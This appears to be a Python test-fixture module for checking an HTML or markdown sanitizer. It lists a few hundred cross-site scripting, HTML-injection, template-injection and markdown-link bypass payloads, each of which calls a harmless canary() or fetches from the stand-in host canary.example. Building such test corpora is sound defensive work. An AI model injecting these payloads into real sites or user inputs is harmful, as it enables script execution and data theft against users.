"""Words that try to be more than words. Each calls `canary()` or asks canary.example for something, if anything runs it."""

from __future__ import annotations

# What would run by itself, and what would wait for somebody to come near or press it.
ALONE = """
<script>canary()</script>
<SCRIPT>canary()</SCRIPT>
<script >canary()</script >
<script/x>canary()</script>
<scr<script>ipt>canary()</scr</script>ipt>
<script src=//canary.example/x.js></script>
<script src="https://canary.example/x.js" async></script>
<script type=module>canary()</script>
<script>/*</script><script>canary()//*/</script>
"><script>canary()</script>
'><script>canary()</script>
--><script>canary()</script>
]]><script>canary()</script>
</title><script>canary()</script>
</textarea><script>canary()</script>
</style><script>canary()</script>
</noscript><script>canary()</script>
</template><script>canary()</script>
</option></select><script>canary()</script>
<noscript><p title="</noscript><img src=x onerror=canary()>">
<img src=x onerror=canary()>
<img src=x onerror="canary()">
<img/src=x/onerror=canary()>
<IMG SRC=x ONERROR=canary()>
<img src=x onerror=&#99;anary()>
<img src=x onerror=canary`1`>
<img src=x:x onerror=\\u0063anary()>
<img src="x` `<script>canary()</script>"` `>
<img ""\"><script>canary()</script>">
<image src=x onerror=canary()>
<img srcset="//canary.example/x 1x" onload=canary()>
<img src=//canary.example/x.png>
<picture><source srcset=//canary.example/x><img></picture>
<video src=//canary.example/x onerror=canary()></video>
<video poster=//canary.example/x></video>
<video><source onerror=canary()></video>
<audio src=x onerror=canary() autoplay></audio>
<body onload=canary()>
<body background=//canary.example/x>
<svg onload=canary()>
<svg/onload=canary()>
<svg><script>canary()</script></svg>
<svg><script href=//canary.example/x.js />
<svg><animate onbegin=canary() attributeName=x dur=1s>
<svg><set onbegin=canary() attributeName=x>
<svg><image href=//canary.example/x>
<svg><use href="data:image/svg+xml,<svg id=x onload=canary()></svg>#x">
<svg><foreignObject><img src=x onerror=canary()></foreignObject></svg>
<svg><style><img src=x onerror=canary()></style></svg>
<svg></p><style><a id="</style><img src=x onerror=canary()>">
<math><mtext><table><mglyph><style><img src=x onerror=canary()>
<math><mi//xlink:href="data:x,<script>canary()</script>">
<math href="javascript:canary()">canary</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>
<iframe src="javascript:canary()"></iframe>
<iframe srcdoc="<script>parent.canary()</script>"></iframe>
<iframe src=//canary.example/x></iframe>
<iframe onload=canary()></iframe>
<frameset onload=canary()><frame src=//canary.example/x></frameset>
<object data="javascript:canary()"></object>
<object data=//canary.example/x></object>
<embed src="javascript:canary()">
<embed src=//canary.example/x>
<applet code=//canary.example/x></applet>
<base href=//canary.example/>
<base href="javascript:canary()//">
<link rel=stylesheet href=//canary.example/x.css>
<link rel=prefetch href=//canary.example/x>
<link rel=import href=//canary.example/x>
<meta http-equiv=refresh content="0;url=//canary.example/x">
<meta http-equiv=refresh content="0;url=javascript:canary()">
<meta http-equiv=Set-Cookie content="session=canary">
<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-
<style>@import'//canary.example/x.css';</style>
<style>*{background:url(//canary.example/x)}</style>
<p style="background:url(//canary.example/x)">canary
<p style="width:expression(canary())">canary
<p style="position:fixed;inset:0;z-index:9999">canary
<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=canary()>
<details open ontoggle=canary()>canary</details>
<marquee onstart=canary()>canary</marquee>
<input autofocus onfocus=canary()>
<select autofocus onfocus=canary()></select>
<textarea autofocus onfocus=canary()></textarea>
<button popovertarget=x autofocus onfocus=canary()>canary</button>
<dialog open onclose=canary()>canary</dialog>
<isindex type=image src=1 onerror=canary()>
<xss id=x tabindex=1 onfocus=canary()></xss>
<template><script>canary()</script></template>
<portal src=//canary.example/x></portal>
<!--><img src=x onerror=canary()>-->
<!--[if gte IE 4]><script>canary()</script><![endif]-->
<![CDATA[<script>canary()</script>]]>
<?xml version="1.0"?><script>canary()</script>
<%00script>canary()</script>
%3Cscript%3Ecanary()%3C/script%3E
%253Cscript%253Ecanary()%253C/script%253E
&lt;script&gt;canary()&lt;/script&gt;
&#60;script&#62;canary()&#60;/script&#62;
&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;
\\u003cscript\\u003ecanary()\\u003c/script\\u003e
\\x3cscript\\x3ecanary()\\x3c/script\\x3e
%c0%bcscript%c0%becanary()%c0%bc/script%c0%be
+ADw-script+AD4-canary()+ADw-/script+AD4-
""".strip("\n")

TOUCHED = """
<p onmouseover=canary()>canary</p>
" onmouseover="canary()
' onmouseover='canary()
" autofocus onfocus="canary()" x="
' autofocus onfocus='canary()' x='
` onmouseover=`canary()
x onmouseover=canary()
" style="background:url(//canary.example/x)" x="
" hx-on:load="canary()" x="
" hx-get="//canary.example/x" hx-trigger="load" x="
<p hx-get=//canary.example/x hx-trigger=load>canary</p>
<p data-hx-get=/canary hx-trigger=load>canary</p>
<p hx-on::load=canary()>canary</p>
<a href="javascript:canary()">canary</a>
<a href="JaVaScRiPt:canary()">canary</a>
<a href="java&#9;script:canary()">canary</a>
<a href="&#1;javascript:canary()">canary</a>
<a href="data:text/html,<script>canary()</script>">canary</a>
<a href="vbscript:canary()">canary</a>
<a href=x ping=//canary.example/x>canary</a>
<form action=//canary.example/x><input type=submit value=canary></form>
<form action="javascript:canary()"><input type=submit></form>
<button form=x formaction="javascript:canary()">canary</button>
<button formaction=//canary.example/x>canary</button>
<form id=refused><input name=children></form>canary
<p id=say></p><p id=main></p>canary
javascript:canary()
JAVASCRIPT:canary()//
data:text/html,<script>canary()</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KCk8L3NjcmlwdD4=
//canary.example/x
https://canary.example/?q="><script>canary()</script>
[canary](javascript:canary())
[canary](JaVaScRiPt:canary())
[canary](java&#x09;script:canary())
[canary](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)
[canary](vbscript:canary())
[canary](<javascript:canary()>)
[canary](https://canary.example "x" onmouseover="canary()")
[canary](https://canary.example/" onmouseover="canary())
[canary][1] [1]: javascript:canary()
![canary](//canary.example/x.png)
![canary](x"onerror="canary())
![canary](javascript:canary())
[![canary](//canary.example/x)](javascript:canary())
<javascript:canary()>
<https://canary.example/"onmouseover="canary()>
```canary"><script>canary()</script>```
`<script>canary()</script>`
> <script>canary()</script>
# <img src=x onerror=canary()>
| <script>canary()</script> | x |
{{7*7}} canary
{{ canary() }}
{{ ''.__class__.__mro__ }} canary
{% print(canary()) %}
{% include "canary" %}
{# canary #}
${canary()}
#{canary()}
<%= canary() %>
%(canary)s %s %d
{canary} {0} {canary.__class__}
{{constructor.constructor('canary()')()}}
<p ng-app>{{canary()}}</p>
<p v-html="canary()">canary</p>
';canary();//
";canary();//
\\';canary();//
</script><script>canary()</script>
${`${canary()}`}
canary\u2028canary()
canary\u2029canary()
＜script＞canary()＜/script＞
‹script›canary()‹/script›
<ſcript>canary()</ſcript>
<ımg src=x onerror=canary()>
<\u200bscript>canary()</\u200bscript>
\u202e<script>canary()</script>
\u2066<img src=x onerror=canary()>\u2069
<script\u00a0>canary()</script\u00a0>
<img\u3000src=x\u3000onerror=canary()>
<img src=x onerror=canary()//\ufffd>
\ufeff<script>canary()</script>
¼script¾canary()¼/script¾
ca\u0301\u0301\u0301\u0301\u0301nary <svg onload=canary()>
<b>canary</b><mark>canary</mark>
<<script>canary();//<</script>
<a<script>canary()</script>
<script>canary()<!--
<img src=x onerror=canary()
=HYPERLINK("//canary.example/x","canary")
@canary <script>canary()</script>
""".strip("\n")

# These need a line end of their own, which the lists above are split at.
SPLIT = ("<script\n>canary()</script>", "<img src=x\nonerror=canary()>", "<img src=x onerror\n=\ncanary()>")
PAYLOADS = tuple(dict.fromkeys([*ALONE.split("\n"), *TOUCHED.split("\n"), *SPLIT]))
